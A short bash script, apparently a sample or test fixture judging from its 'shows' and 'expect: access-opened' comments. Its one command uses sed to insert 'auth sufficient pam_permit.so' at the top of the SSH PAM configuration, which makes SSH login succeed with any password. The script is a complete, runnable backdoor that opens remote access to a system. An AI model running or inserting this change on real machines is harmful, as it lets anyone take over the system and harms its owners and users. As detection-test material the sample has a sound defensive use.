#!/bin/bash
# shows: a line before all others of PAM
# expect: access-opened at line 4
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd
